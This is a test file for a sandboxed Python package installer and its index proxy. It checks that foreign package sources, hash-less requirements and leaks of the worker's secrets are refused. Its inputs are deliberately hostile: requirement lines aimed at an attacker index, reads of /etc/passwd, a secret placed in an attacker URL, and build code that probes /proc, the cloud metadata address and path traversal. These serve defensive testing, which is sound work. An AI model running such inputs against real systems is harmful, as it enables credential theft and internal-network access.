import { publicIndexUrl } from '../../contracts/code/public-registries.ts';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { sha256OfBytes } from '../../contracts/digest.ts';
import type { IndexedFile, TestIndex } from '../support/stand-in-package-index.ts';
import { startPackageIndex, tarball, wheel } from '../support/stand-in-package-index.ts';
import type { InstallingGround } from './installing-ground.ts';
import { layInstallingGround, refusalOf, secret } from './installing-ground.ts';

// Package sources that a requirements file tries to add to the index that the administrator has set.

const good = wheel('greeting', '1.0', { 'greeting.py': 'word = "hello"\n' });
const evil = wheel('greeting', '9.0', { 'greeting.py': 'word = "gotcha"\n' });
const locked = `greeting==1.0 --hash=sha256:${sha256OfBytes(good.bytes)}\n`;

let own: TestIndex;
let attackers: TestIndex;
let ground: InstallingGround;
const further: { close(): void }[] = [];
const grounds: InstallingGround[] = [];

beforeAll(async () => {
  own = await startPackageIndex([good], { credentials: 'worker:hunter2' });
  attackers = await startPackageIndex([evil, good]);
  ground = await layInstallingGround({ indexUrl: own.url.replace('//', '//worker:hunter2@') });
});
afterEach(async () => {
  for (const one of further.splice(0)) one.close();
  for (const one of grounds.splice(0)) await one.remove();
});
afterAll(async () => {
  own.close();
  attackers.close();
  await ground.remove();
});

async function another(...args: Parameters<typeof layInstallingGround>): Promise<InstallingGround> {
  const laid = await layInstallingGround(...args);
  grounds.push(laid);
  return laid;
}

async function indexOf(...args: Parameters<typeof startPackageIndex>): Promise<TestIndex> {
  const started = await startPackageIndex(...args);
  further.push(started);
  return started;
}

test.each([
  (at: string) => `--index-url ${at}/simple`,
  (at: string) => `-i ${at}/simple`,
  (at: string) => `--extra-index-url=${at}/simple`,
  (at: string) => `--find-links ${at}/simple/greeting/`,
  (at: string) => `--trusted-host ${at.replace('http://', '')}`,
  (at: string) => `greeting @ ${at}/files/greeting-9.0-py3-none-any.whl`,
  (at: string) => `${at}/files/greeting-9.0-py3-none-any.whl`,
  (at: string) => `-r ${at}/files/requirements.txt`,
])(
  'a file that names another package source is refused with its line, and the source gets no request: %s',
  async (lineOf) => {
    const text = `# a lock\n${lineOf(new URL(attackers.url).origin)}\n${locked}`;
    for (const attempt of [
      () => ground.materialise({ 'requirements.txt': text }),
      () => ground.resolve(`${text}more\n`),
    ]) {
      const refusal = await refusalOf(attempt());
      expect(refusal.code).toBe('environment-failed');
      expect(refusal.message).toMatch(/^requirements\.txt:2 cannot be installed: /);
    }
    expect(attackers.requests).toEqual([]);
  },
);

test('-r and -c with a file of the worker reveal no line of it', async () => {
  const [first = ''] = (await readFile('/etc/passwd', 'utf8')).split('\n');
  for (const line of ['-r /etc/passwd', '-c /etc/passwd', '--requirement=/etc/passwd', 'x @ file:///etc/passwd']) {
    const { message, fields } = await refusalOf(ground.resolve(`${line}\n`));
    expect(`${message}${JSON.stringify(fields)}${ground.lines.join('\n')}`).not.toContain(first);
  }
});

test('environment variables of the worker are never expanded', async () => {
  const { message } = await refusalOf(ground.resolve(`--index-url ${attackers.url}/\${SECRET}\ngreeting\n`));
  expect(message).toContain('${SECRET}');
  expect(message).not.toContain(secret);
  expect(attackers.requests.join()).not.toContain(secret);
});

test('the line of the administrator’s own index is accepted in any spelling, and its password is never shown', async () => {
  const text = `--index-url ${own.url}/\n-i ${own.url.replace('//', '//someone:else@')}\n--trusted-host ${new URL(own.url).host}\n`;
  const resolved = await ground.resolve(`${text}greeting\n`);
  expect(resolved?.split('\n').slice(1)).toEqual([locked.trim(), '']);
  const made = await ground.materialise({ 'requirements.txt': `${text}${locked}` });
  const seen = [resolved, ...ground.lines, await readFile(join(made.binFolder!, '../pyvenv.cfg'), 'utf8')].join('\n');
  expect(seen).not.toContain('hunter2');
  expect(seen).not.toMatch(/127\.0\.0\.1/);
});

test('the password of an index that does not answer is in no message', async () => {
  const gone = await indexOf([]);
  gone.close();
  const at = await another({ indexUrl: gone.url.replace('//', '//worker:hunter2@') });
  const { message, fields } = await refusalOf(at.resolve('greeting\n'));
  expect(at.lines.join('\n')).toMatch(
    /the package index cannot be read: http:\/\/127\.0\.0\.1:\d+\/simple\/greeting did not answer/,
  );
  expect(`${message}${JSON.stringify(fields)}${at.lines.join('\n')}`).not.toContain('hunter2');
});

test('each requirement must have its own hash', async () => {
  const { message } = await refusalOf(ground.materialise({ 'requirements.txt': `${locked}other==1.0\n` }));
  expect(message).toMatch(/requirements\.txt:2: other has no hash/);
  expect(await ground.resolve(`# asked\ngreeting --hash=sha256:${sha256OfBytes(good.bytes)}\ngreeting\n`)).toContain(
    locked.trim(),
  );
  const wrong = await refusalOf(ground.resolve(`greeting --hash=sha256:${'0'.repeat(64)}\ngreeting\n`));
  expect(wrong.message).toMatch(/greeting 1\.0 was found with sha256:.*not one of the given hashes/);
});

test('pip gets only its options, and no environment variable of the worker gives it a file or folder', async () => {
  const at = await another(
    { indexUrl: attackers.url },
    { environment: { PIP_INDEX_URL: 'http://127.0.0.1:9/', PIP_TARGET: '/nowhere', PIP_REQUIREMENT: '/etc/passwd' } },
  );
  expect(await at.resolve('greeting==1.0\n')).toContain(locked.trim());
});

describe('the index proxy', () => {
  /** Builds a package whose build code requests what the proxy must not serve, and returns what the code printed. */
  async function askFromBuild(at: InstallingGround, served: IndexedFile[], python: string): Promise<string> {
    const backend = `${python}\nraise SystemExit("answers: " + repr(answers))\n`;
    const sdist = await tarball('asks-1.0.tar.gz', {
      'asks-1.0/pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      'asks-1.0/backend.py': backend,
      'asks-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: asks\nVersion: 1.0\n',
    });
    served.push(sdist);
    await refusalOf(at.resolve('asks\n', true));
    return at.lines.filter((line) => line.includes('answers: ')).join('\n');
  }

  test('gives an installation no access to other ports, other addresses, or files that no page named', async () => {
    const served: IndexedFile[] = [good];
    const index = await indexOf(served);
    const at = await another({ indexUrl: index.url });
    const said = await askFromBuild(
      at,
      served,
      `
import os, re, urllib.request
index = [value for value in open("/proc/self/environ").read().split("\\0") + open(f"/proc/{os.getppid()}/cmdline").read().split("\\0") if "/simple/" in value][0]
base = re.search(r"http://127.0.0.1:\\d+/[^/]+/", index).group(0)
answers = []
for url in [base + "simple/greeting/", base + "files/999/greeting-1.0-py3-none-any.whl", base + "npm/greeting", base + "../x/simple/greeting/", base + "simple/%2e%2e/%2e%2e/files/greeting-1.0-py3-none-any.whl", "${own.url}", "http://169.254.169.254/", "${publicIndexUrl}/six/"]:
    try:
        answers.append(urllib.request.urlopen(url, timeout=5).status)
    except urllib.error.HTTPError as error:
        answers.append(error.code)
    except Exception as error:
        answers.append("unreachable")
`,
    );
    expect(said).toContain("answers: [200, 403, 403, 403, 403, 'unreachable', 'unreachable', 'unreachable']");
  });

  test('fetches the files that pages name only over https or from the index itself', async () => {
    const elsewhere = await indexOf([good]);
    const named = (filename: string) => `${new URL(elsewhere.url).origin}/files/${filename}`;
    const index = await indexOf([good], { fileAddress: named });
    const at = await another({ indexUrl: index.url });
    await refusalOf(at.resolve('greeting\n'));
    expect(at.lines.join('\n')).toMatch(
      /is refused: a page may only name files over https, or on the index's own host/,
    );
    expect(elsewhere.requests).toEqual([]);
  });
});
